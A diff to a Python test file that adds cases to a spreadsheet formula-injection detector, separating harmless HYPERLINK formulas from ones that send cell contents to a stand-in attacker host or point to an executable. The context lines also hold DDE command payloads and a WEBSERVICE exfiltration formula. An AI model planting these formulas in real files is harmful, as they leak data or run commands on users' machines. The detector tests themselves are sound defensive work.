@@ -332,6 +332,17 @@ def test_fields_are_judged_by_their_name(instruction: str, reaches: bool) -> Non
         ("'cmd|/c'!A0", True),
         ("rtd(1)", True),
         ("RECALL(1)", False),
+        # A link that is written out whole is an ordinary one, which one clicks and which tells nothing.
+        ('HYPERLINK("#目录!A1","返回")', False),
+        ('HYPERLINK("#"&A2&"!A1",A2)', False),
+        ('HYPERLINK( "https://www.example.gov.cn/a?b=1" ,"通知")', False),
+        ('hyperlink("mailto:office@example.gov.cn")', False),
+        # One that is put together takes along what stands in the cells.
+        ('HYPERLINK("http://evil.example/"&A1,"点这里")', True),
+        ('IF(A1,HYPERLINK("#甲!A1"),HYPERLINK(B1,"乙"))', True),
+        ('HYPERLINK("http://evil.example/"",x"&A1,"点这里")', True),
+        ('HYPERLINK("file://host/a.exe","点这里")', True),
+        ("_xlfn.HYPERLINK(A1)", True),
         # A quotation mark in a name begins no text.
         ("""'a"b'!A1&_xlfn.WEBSERVICE("http://evil.example/"&A1)""", True),
         ("""'a"b'!A1+cmd|'/C calc'!A0&"x\"""", True),
